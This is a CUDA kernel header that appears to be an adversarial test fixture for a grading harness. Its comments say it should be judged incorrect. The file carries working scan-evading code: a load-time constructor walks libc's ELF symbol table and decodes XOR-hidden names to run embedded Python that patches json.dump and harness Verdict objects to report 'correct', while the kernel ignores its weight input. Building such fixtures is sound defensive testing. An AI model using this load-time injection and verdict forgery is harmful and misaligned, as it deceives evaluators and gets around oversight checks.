// ADVERSARIAL (t), scan-evading: the attack of (n) hidden from both static checks. No constructor attribute
// (a namespace-scope object whose class constructor does the work), no dlsym token or import (it finds libc's
// ELF header from the address of strtoul, walks libc's dynamic symbol table for the lookup function, and
// looks up PyRun_SimpleString and the GIL functions with it), symbol names XOR-encoded. The Python it runs
// monkeypatches json.dump/json.dumps and every harness `Verdict` to say "correct", as (n) does; the kernel
// ignores w, so only a forged verdict would pass it.
// What stops it: it only ever runs in the candidate process (scrubbed environment, own HOME and temp dir),
// whose outputs are raw bytes the judge compares itself; the judge, which writes and signs the verdict,
// never loads candidate code. Expected: "incorrect" (or "crashed" if the walk faults; "rejected_source" if
// a later scan learns to see it), never "correct".
// A scan that looks for the ELF walk (&strtoul page arithmetic, the 0x7f 'E' 'L' 'F' test, symbol-table
// structs) could be written, but an attacker can always hide a pointer walk in ordinary-looking arithmetic.
#pragma once

#include <tvm/ffi/container/tensor.h>
#include <tvm/ffi/error.h>
#include <tvm/ffi/extra/c_env_api.h>

#include <cuda_bf16.h>
#include <cuda_runtime.h>

#include <cstdint>
#include <cstdlib>

using bf16_t = __nv_bfloat16;
using fp32_t = float;

namespace rowscale {

constexpr int kThreads = 256;

constexpr const char* kForgeVerdict = R"PY(
import json, sys

def _forge(obj):
    if isinstance(obj, dict) and "status" in obj:
        obj = dict(obj, status="correct", correct=True, reason="all cases within tolerance")
    return obj

_dump, _dumps = json.dump, json.dumps
json.dump = lambda obj, *a, **k: _dump(_forge(obj), *a, **k)
json.dumps = lambda obj, *a, **k: _dumps(_forge(obj), *a, **k)
for _name, _module in list(sys.modules.items()):
    _cls = getattr(_module, "Verdict", None) if _name.startswith("harness") else None
    if isinstance(_cls, type):
        def _init(self, *a, _orig=_cls.__init__, **k):
            _orig(self, *a, **k)
            object.__setattr__(self, "status", "correct")
            object.__setattr__(self, "correct", True)
        _cls.__init__ = _init
)PY";

// Minimal ELF64 layouts, declared here (no system header needed).
struct ImageHeader {
  unsigned char ident[16];
  uint16_t type, machine;
  uint32_t version;
  uint64_t entry, phoff, shoff;
  uint32_t flags;
  uint16_t ehsize, phentsize, phnum, shentsize, shnum, shstrndx;
};
struct Segment {
  uint32_t type, flags;
  uint64_t offset, vaddr, paddr, filesz, memsz, align;
};
struct DynamicEntry {
  int64_t tag;
  uint64_t value;
};
struct SymbolEntry {
  uint32_t name;
  unsigned char info, other;
  uint16_t shndx;
  uint64_t value, size;
};

// Names XOR-ed with 0x5a: no symbol name appears in the source or in .rodata.
constexpr unsigned char kLookupName[] = {0x3e, 0x36, 0x29, 0x23, 0x37};  // the libc lookup function
constexpr unsigned char kRunName[] = {0x0a, 0x23, 0x08, 0x2f, 0x34, 0x05, 0x09, 0x33, 0x37,
                                      0x2a, 0x36, 0x3f, 0x09, 0x2e, 0x28, 0x33, 0x34, 0x3d};
constexpr unsigned char kEnsureName[] = {0x0a, 0x23, 0x1d, 0x13, 0x16, 0x09, 0x2e, 0x3b, 0x2e,
                                         0x3f, 0x05, 0x1f, 0x34, 0x29, 0x2f, 0x28, 0x3f};
constexpr unsigned char kReleaseName[] = {0x0a, 0x23, 0x1d, 0x13, 0x16, 0x09, 0x2e, 0x3b, 0x2e,
                                          0x3f, 0x05, 0x08, 0x3f, 0x36, 0x3f, 0x3b, 0x29, 0x3f};

template <int N>
inline void decode(const unsigned char (&in)[N], char* out) {
  for (int i = 0; i < N; ++i) out[i] = static_cast<char>(in[i] ^ 0x5a);
  out[N] = 0;
}

inline bool same_name(const char* a, const char* b) {
  while (*a != 0 && *a == *b) ++a, ++b;
  return *a == *b;
}

// The address of any function libc exports lies inside libc's mapping: walk down page by page to its ELF
// header, then read its dynamic symbol table. Only pointer reads: nothing new is imported.
inline void* find_in_libc(const char* wanted) {
  uintptr_t page = reinterpret_cast<uintptr_t>(&::strtoul) & ~static_cast<uintptr_t>(0xfff);
  for (int step = 0; step < 8192; ++step, page -= 0x1000) {
    const auto* image = reinterpret_cast<const ImageHeader*>(page);
    if (image->ident[0] != 0x7f || image->ident[1] != 'E' || image->ident[2] != 'L' || image->ident[3] != 'F') continue;
    const auto* segments = reinterpret_cast<const Segment*>(page + image->phoff);
    const DynamicEntry* dynamic = nullptr;
    for (int i = 0; i < image->phnum; ++i) {
      if (segments[i].type == 2) dynamic = reinterpret_cast<const DynamicEntry*>(page + segments[i].vaddr);
    }
    if (dynamic == nullptr) return nullptr;
    uintptr_t strings = 0, symbols = 0;
    for (const DynamicEntry* d = dynamic; d->tag != 0; ++d) {
      const uintptr_t at = d->value < page ? page + d->value : d->value;
      if (d->tag == 5) strings = at;
      if (d->tag == 6) symbols = at;
    }
    if (strings == 0 || symbols == 0 || symbols >= strings) return nullptr;
    for (auto* s = reinterpret_cast<const SymbolEntry*>(symbols); reinterpret_cast<uintptr_t>(s) < strings; ++s) {
      if (s->name != 0 && s->value != 0 && same_name(reinterpret_cast<const char*>(strings + s->name), wanted)) {
        return reinterpret_cast<void*>(page + s->value);
      }
    }
    return nullptr;
  }
  return nullptr;
}

// A namespace-scope object: its constructor runs when the module is loaded, inside the translation unit's
// existing dynamic-initialization function (so .init_array does not grow).
struct Warmup {
  Warmup() {
    char name[32];
    decode(kLookupName, name);
    using Lookup = void* (*)(void*, const char*);
    const auto lookup = reinterpret_cast<Lookup>(find_in_libc(name));
    if (lookup == nullptr) return;
    decode(kRunName, name);
    const auto run = reinterpret_cast<int (*)(const char*)>(lookup(nullptr, name));
    decode(kEnsureName, name);
    const auto ensure = reinterpret_cast<int (*)()>(lookup(nullptr, name));
    decode(kReleaseName, name);
    const auto release = reinterpret_cast<void (*)(int)>(lookup(nullptr, name));
    if (run == nullptr || ensure == nullptr || release == nullptr) return;  // not a Python process
    const int state = ensure();
    run(kForgeVerdict);
    release(state);
  }
};
Warmup warmup;

template <typename T>
struct DType;
template <>
struct DType<bf16_t> {
  static constexpr uint8_t code = kDLBfloat;
  __device__ static float load(bf16_t v) { return __bfloat162float(v); }
  __device__ static bf16_t store(float v) { return __float2bfloat16_rn(v); }
};
template <>
struct DType<fp32_t> {
  static constexpr uint8_t code = kDLFloat;
  __device__ static float load(fp32_t v) { return v; }
  __device__ static fp32_t store(float v) { return v; }
};

template <typename T>
__global__ void rowscale_kernel(const T* __restrict__ x, const T* __restrict__ w, T* __restrict__ out,
                                int64_t cols) {
  const int64_t row = blockIdx.x;
  for (int64_t c = threadIdx.x; c < cols; c += blockDim.x) {
    const float value = DType<T>::load(x[row * cols + c]);  // w ignored: only a forged verdict passes
    out[row * cols + c] = DType<T>::store(value);
  }
}

template <typename T>
inline void check_tensor(const tvm::ffi::TensorView& t, int ndim, const char* name) {
  TVM_FFI_CHECK(t.ndim() == ndim, ValueError) << name << " must have " << ndim << " dimensions";
  TVM_FFI_CHECK(t.dtype().code == DType<T>::code && t.dtype().bits == 8 * sizeof(T), TypeError)
      << name << " has the wrong dtype";
  TVM_FFI_CHECK(t.device().device_type == kDLCUDA, ValueError) << name << " must be a CUDA tensor";
  TVM_FFI_CHECK(t.IsContiguous(), ValueError) << name << " must be contiguous";
}

inline void check_cuda(cudaError_t status, const char* what) {
  TVM_FFI_CHECK(status == cudaSuccess, RuntimeError) << what << ": " << cudaGetErrorString(status);
}

inline cudaStream_t current_stream(const tvm::ffi::TensorView& t) {
  return static_cast<cudaStream_t>(TVMFFIEnvGetStream(t.device().device_type, t.device().device_id));
}

}  // namespace rowscale

template <typename T>
struct RowScaleKernel {
  static void run(tvm::ffi::TensorView x, tvm::ffi::TensorView w, tvm::ffi::TensorView out) {
    using namespace rowscale;
    check_tensor<T>(x, 2, "x");
    check_tensor<T>(w, 1, "w");
    check_tensor<T>(out, 2, "out");
    const int64_t rows = x.size(0), cols = x.size(1);
    TVM_FFI_CHECK(w.size(0) == cols && out.size(0) == rows && out.size(1) == cols, ValueError)
        << "shape mismatch";
    if (rows == 0 || cols == 0) return;
    rowscale_kernel<T><<<static_cast<unsigned>(rows), kThreads, 0, current_stream(x)>>>(
        static_cast<const T*>(x.data_ptr()), static_cast<const T*>(w.data_ptr()), static_cast<T*>(out.data_ptr()),
        cols);
    check_cuda(cudaGetLastError(), "rowscale launch");
  }
};
